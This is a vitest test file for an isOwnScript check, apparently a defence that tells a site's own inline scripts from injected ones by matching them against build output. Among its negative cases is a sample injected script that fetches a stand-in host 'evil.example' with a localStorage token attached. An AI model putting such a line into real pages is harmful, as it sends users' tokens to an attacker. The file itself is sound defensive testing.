import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isOwnScript } from './own-scripts.ts';

const SCRIPTS = [`(() => {\n  go("a", 'b', \`\${c}\`, /\\d+/, '\\u2019');\n})()`, 'say("سنابل – ’")', '\n  start();\n'];
const AS_PAGES_HAVE_THEM = SCRIPTS.map((script) => Buffer.from(script).toString('latin1'));

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'sanabel-scripts-'));
  mkdirSync(join(folder, 'chunks'));
  const [first = '', second = '', third = ''] = SCRIPTS;
  const template = `\`${first.replace(/[\\`]|\$(?=\{)/g, '\\$&')}\``;
  const ascii = JSON.stringify(second).replace(/[^ -~]/g, (sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`);
  writeFileSync(join(folder, 'entry.mjs'), `const today = ${template}; const name = ${ascii};`);
  writeFileSync(join(folder, 'chunks', 'page.mjs'), `const one = ${JSON.stringify(third)};`);
  writeFileSync(join(folder, 'class-names.json'), JSON.stringify('steal()'));
});
afterAll(() => rmSync(folder, { recursive: true }));

describe('a script inside a page', () => {
  it.each(AS_PAGES_HAVE_THEM)('is ours in whatever quotes the code has it: %j', (script) => {
    expect(isOwnScript(folder, script)).toBe(true);
  });

  it.each(['steal()', 'fetch("//evil.example?"+localStorage.token)', `${AS_PAGES_HAVE_THEM[2]}steal();`, 'START();'])(
    'is not, where no code has it: %j',
    (script) => {
      expect(isOwnScript(folder, script)).toBe(false);
    },
  );
});
